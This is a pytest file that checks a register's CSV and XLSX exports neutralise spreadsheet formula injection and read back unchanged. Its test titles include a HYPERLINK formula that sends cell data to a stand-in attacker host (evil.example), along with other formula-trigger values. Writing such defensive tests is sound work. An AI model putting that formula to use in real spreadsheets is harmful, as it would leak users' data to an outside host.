"""Exports make text that a spreadsheet would run as a formula inert (OWASP CSV
injection), and imports give back exactly the text that was exported."""

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook

from tests.helpers import seed_small_register, trail_config
from weerbaar import formats
from weerbaar.formats.formula import neutralise, restore
from weerbaar.services.context import Context
from weerbaar.services.records import create_record
from weerbaar.services.transfer import export_register, import_register
from weerbaar.storage.db import Database

TITLES = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+1",
    "-2",
    "@SUM(A1)",
    "'=x",
    "'quoted already",
    "''=twice",
    "#N/A",
    "Plain title",
]


@pytest.mark.parametrize("value", [*TITLES, "\t=tab", "\r=cr", "'", "''", "", "=", "a=b", "'plain"])
def test_restore_undoes_neutralise(value: str) -> None:
    written = neutralise(value)
    assert restore(written) == value
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_a_quote_typed_before_a_formula_by_hand_is_excels_text_mark() -> None:
    assert restore("'=1+1") == "=1+1"
    assert restore("'plain") == "'plain"  # no formula character after it: kept


def seed_titles(ctx: Context) -> None:
    seed_small_register(ctx)
    for i, title in enumerate(TITLES):
        create_record(
            ctx,
            entity_name="scenarios",
            raw={
                "key": f"formula-{i}",
                "title": title,
                "kind": "hazard",
                "theme": "terrorism",
                "narrative": title,
            },
        )


def titles(db: Database) -> dict[str, str]:
    return {
        s["key"]: s["title"]
        for s in export_register(db)["scenarios"]
        if s["key"].startswith("formula-")
    }


def test_csv_export_is_inert_and_reads_back_unchanged(
    ctx: Context, tmp_path: Path, sqlite_url: str
) -> None:
    seed_titles(ctx)
    folder = tmp_path / "register"
    formats.write(folder, export_register(ctx.db), fmt="csv")
    with (folder / "scenarios.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = {row["key"]: row for row in csv.DictReader(handle)}
    for i, title in enumerate(TITLES[:7]):
        assert rows[f"formula-{i}"]["title"] == "'" + title
        assert rows[f"formula-{i}"]["narrative"] == "'" + title
    assert rows["formula-8"]["title"] == "Plain title"
    other = Database(sqlite_url, trail=trail_config())
    other.upgrade()
    import_register(Context(other, "test"), doc=formats.read(folder, fmt="csv"))
    assert titles(other) == titles(ctx.db) == {f"formula-{i}": t for i, t in enumerate(TITLES)}
    other.dispose()


def test_xlsx_export_writes_text_cells_and_reads_back_unchanged(
    ctx: Context, tmp_path: Path, sqlite_url: str
) -> None:
    seed_titles(ctx)
    path = tmp_path / "register.xlsx"
    formats.write(path, export_register(ctx.db))
    sheet = load_workbook(path)["scenarios"]
    header = [cell.value for cell in sheet[1]]
    column = header.index("title")
    cells = {row[0].value: row[column] for row in sheet.iter_rows(min_row=2)}
    for i, title in enumerate(TITLES):
        cell = cells[f"formula-{i}"]
        assert cell.data_type == "s", title
        assert cell.value == (title if i == 8 or title == "#N/A" else "'" + title)
    other = Database(sqlite_url, trail=trail_config())
    other.upgrade()
    import_register(Context(other, "test"), doc=formats.read(path))
    assert titles(other) == titles(ctx.db) == {f"formula-{i}": t for i, t in enumerate(TITLES)}
    other.dispose()
